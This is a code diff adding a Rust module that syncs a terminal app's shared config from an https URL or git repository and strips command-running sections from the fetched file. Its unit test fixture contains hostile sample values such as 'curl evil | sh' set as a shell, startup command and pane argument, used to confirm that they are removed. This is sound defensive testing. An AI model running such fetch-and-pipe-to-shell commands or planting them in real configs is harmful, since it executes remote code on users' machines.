@@ -0,0 +1,274 @@
+use serde::Deserialize;
+use std::fs;
+use std::path::{Path, PathBuf};
+use std::process::Command;
+use std::thread;
+use std::time::Duration;
+use tauri::{AppHandle, Emitter};
+use toml::{Table, Value};
+
+use crate::config::{get_config_path, Config, SyncConfig, SyncPolicy};
+use crate::config_format::ConfigFormat;
+use crate::merge;
+use crate::validation::ValidationError;
+
+/// Directory next to the config file holding the synced config
+const SYNC_DIR: &str = "synced";
+
+/// File the fetched config is stored in
+const SYNCED_FILE: &str = "termillion.toml";
+
+/// Keys that only make sense in the local config and are dropped from the
+/// fetched one
+const LOCAL_KEYS: [&str; 3] = ["version", "sync", merge::INCLUDE_KEY];
+
+/// Sections that run programs, dropped from the fetched config unless
+/// `allow_commands` is set. Profiles go too, they name the program to run.
+const COMMAND_KEYS: [&str; 7] = [
+    "hooks",
+    "tasks",
+    "layouts",
+    "dynamic_profiles",
+    "shell",
+    "editor",
+    "link_rules",
+];
+
+fn sync_dir(config_dir: &Path) -> PathBuf {
+    config_dir.join(SYNC_DIR)
+}
+
+fn sync_config(main: &Table) -> Option<SyncConfig> {
+    SyncConfig::deserialize(main.get("sync")?.clone()).ok()
+}
+
+/// Merge the last synced config into a config table. The policy comes from
+/// the `[sync]` section of the main config file, nothing is merged without it.
+pub fn merge_synced(table: &mut Table, main: &Table, config_dir: &Path) {
+    let Some(sync) = sync_config(main) else {
+        return;
+    };
+    let Some(synced) = fs::read_to_string(sync_dir(config_dir).join(SYNCED_FILE))
+        .ok()
+        .and_then(|content| content.parse::<Table>().ok())
+    else {
+        return;
+    };
+
+    match sync.policy.unwrap_or_default() {
+        SyncPolicy::LocalWins => {
+            let mut merged = synced;
+            merge::deep_merge(&mut merged, std::mem::take(table));
+            *table = merged;
+        }
+        SyncPolicy::RemoteWins => merge::deep_merge(table, synced),
+    }
+}
+
+// Run git and turn a failure into its stderr
+fn git(args: &[&str]) -> Result<(), String> {
+    let output = Command::new("git")
+        .args(args)
+        .output()
+        .map_err(|e| format!("Failed to run git: {}", e))?;
+    if output.status.success() {
+        Ok(())
+    } else {
+        Err(format!(
+            "git {} failed: {}",
+            args.first().unwrap_or(&""),
+            String::from_utf8_lossy(&output.stderr).trim()
+        ))
+    }
+}
+
+// Clone the repository on the first sync and pull it afterwards
+fn fetch_git(sync: &SyncConfig, repo: &str, dir: &Path) -> Result<(String, ConfigFormat), String> {
+    let scheme = repo
+        .split_once("://")
+        .map(|(scheme, _)| scheme.to_lowercase());
+    if matches!(scheme.as_deref(), Some("http" | "git")) {
+        return Err(format!(
+            "Config sync needs an https or ssh repository, got {}",
+            repo
+        ));
+    }
+    let checkout = dir.join("repo");
+    let checkout_str = checkout.to_string_lossy();
+    if checkout.join(".git").exists() {
+        git(&["-C", &checkout_str, "pull", "--ff-only"])?;
+    } else {
+        let mut args = vec!["clone", "--depth", "1"];
+        if let Some(branch) = &sync.branch {
+            args.extend(["--branch", branch]);
+        }
+        args.extend([repo, &checkout_str]);
+        git(&args)?;
+    }
+
+    let file = checkout.join(sync.path.as_deref().unwrap_or(SYNCED_FILE));
+    let content = fs::read_to_string(&file)
+        .map_err(|e| format!("Failed to read {}: {}", file.display(), e))?;
+    Ok((content, ConfigFormat::from_path(&file)))
+}
+
+async fn fetch_url(url: &str) -> Result<(String, ConfigFormat), String> {
+    // Anyone on the way could change the config otherwise
+    if !url
+        .get(..8)
+        .is_some_and(|scheme| scheme.eq_ignore_ascii_case("https://"))
+    {
+        return Err(format!("Config sync needs an https URL, got {}", url));
+    }
+    let content = reqwest::get(url)
+        .await
+        .and_then(|response| response.error_for_status())
+        .map_err(|e| format!("Failed to download {}: {}", url, e))?
+        .text()
+        .await
+        .map_err(|e| format!("Failed to download {}: {}", url, e))?;
+    let path = url.split(['?', '#']).next().unwrap_or(url);
+    Ok((content, ConfigFormat::from_path(Path::new(path))))
+}
+
+/// Fetch the shared config and store it for the next load
+pub async fn sync_now(app: &AppHandle) -> Result<(), String> {
+    let config_path = get_config_path(app)?;
+    let config_dir = config_path.parent().unwrap_or(Path::new("."));
+    let content = fs::read_to_string(&config_path)
+        .map_err(|e| format!("Failed to read config file: {}", e))?;
+    let main = ConfigFormat::from_path(&config_path).parse(&content)?;
+    let sync = sync_config(&main).ok_or_else(|| "Config sync is not configured".to_string())?;
+
+    let dir = sync_dir(config_dir);
+    fs::create_dir_all(&dir).map_err(|e| format!("Failed to create sync directory: {}", e))?;
+    let (content, format) = match (&sync.url, &sync.git) {
+        (Some(url), _) => fetch_url(url).await?,
+        (None, Some(repo)) => fetch_git(&sync, repo, &dir)?,
+        (None, None) => return Err("Config sync needs a url or git repository".to_string()),
+    };
+
+    let mut remote = format
+        .parse(&content)
+        .map_err(|e| format!("Failed to parse synced config: {}", e))?;
+    strip_remote(&mut remote, sync.allow_commands.unwrap_or(false));
+    let rendered = ConfigFormat::Toml.render(&remote)?;
+    fs::write(dir.join(SYNCED_FILE), rendered)
+        .map_err(|e| format!("Failed to write synced config: {}", e))
+}
+
+// Drop what the fetched config may not set, so a changed or intercepted
+// file can't make the app run programs
+fn strip_remote(remote: &mut Table, allow_commands: bool) {
+    for key in LOCAL_KEYS {
+        remote.remove(key);
+    }
+    if allow_commands {
+        return;
+    }
+    strip_commands(remote);
+    // Platform overrides are merged after the synced config, so they could
+    // bring the same sections back
+    if let Some(Value::Table(overrides)) = remote.get_mut(merge::OVERRIDES_KEY) {
+        for (_, platform) in overrides.iter_mut() {
+            if let Value::Table(platform) = platform {
+                strip_commands(platform);
+            }
+        }
+    }
+}
+
+// Drop the sections of a config table that run programs
+fn strip_commands(table: &mut Table) {
+    for key in COMMAND_KEYS {
+        table.remove(key);
+    }
+    if let Some(Value::Table(profiles)) = table.get_mut("profiles") {
+        profiles.remove("list");
+    }
+    if let Some(Value::Table(shortcuts)) = table.get_mut("shortcuts") {
+        shortcuts.retain(|_, shortcut| {
+            !matches!(shortcut, Value::Table(shortcut) if shortcut.contains_key("send_text"))
+        });
+    }
+}
+
+/// Sync in the background at the configured interval, the frontend is told
+/// through a `config-synced` event so it can reload
+pub fn start_auto_sync(app: AppHandle) {
+    let interval = Config::load(&app)
+        .ok()
+        .and_then(|config| config.sync)
+        .and_then(|sync| sync.interval_minutes)
+        .filter(|minutes| *minutes > 0);
+    let Some(minutes) = interval else {
+        return;
+    };
+
+    thread::spawn(move || loop {
+        thread::sleep(Duration::from_secs(minutes * 60));
+        match tauri::async_runtime::block_on(sync_now(&app)) {
+            Ok(()) => {
+                let _ = app.emit("config-synced", ());
+            }
+            Err(e) => tracing::warn!("Config sync failed: {}", e),
+        }
+    });
+}
+
+// Pull the shared config now and return the validation result of the merged config
+#[tauri::command]
+pub async fn sync_config_now(app: AppHandle) -> Result<Vec<ValidationError>, String> {
+    sync_now(&app).await?;
+    let config = Config::load(&app)?;
+    Ok(config.validate())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_strip_remote() {
+        let fetched: Table = r#"
+            version = 3
+            shell = { linux = "sh -c 'curl evil | sh'", windows = "cmd", macos = "zsh" }
+            font = { size = 14 }
+            [profiles]
+            default = "bash"
+            list = [{ name = "bash", command = "bash", startup_commands = ["curl evil | sh"] }]
+            [shortcuts]
+            copy = { key = "c", ctrl = true }
+            deploy = { key = "d", ctrl = true, send_text = "./deploy\r" }
+            [hooks]
+            pty_exited = [{ command = "evil" }]
+            [layouts.dev]
+            rows = 1
+            columns = 1
+            panes = [{ row = 0, column = 0, command = "sh", args = ["-c", "curl evil | sh"] }]
+            [overrides.linux]
+            shell = "sh -c 'curl evil | sh'"
+            font = { size = 12 }
+        "#
+        .parse()
+        .unwrap();
+
+        let mut remote = fetched.clone();
+        strip_remote(&mut remote, false);
+        assert_eq!(
+            remote.keys().collect::<Vec<_>>(),
+            ["font", "profiles", "shortcuts", "overrides"]
+        );
+        // Overrides keep their settings but can't bring a shell back
+        let linux = remote["overrides"]["linux"].as_table().unwrap();
+        assert_eq!(linux.keys().collect::<Vec<_>>(), ["font"]);
+        assert_eq!(remote["profiles"].as_table().unwrap().len(), 1);
+        assert!(remote["shortcuts"].get("deploy").is_none());
+        assert!(remote["shortcuts"].get("copy").is_some());
+
+        let mut remote = fetched;
+        strip_remote(&mut remote, true);
+        assert!(remote.contains_key("hooks"));
+        assert!(!remote.contains_key("version"));
+    }
+}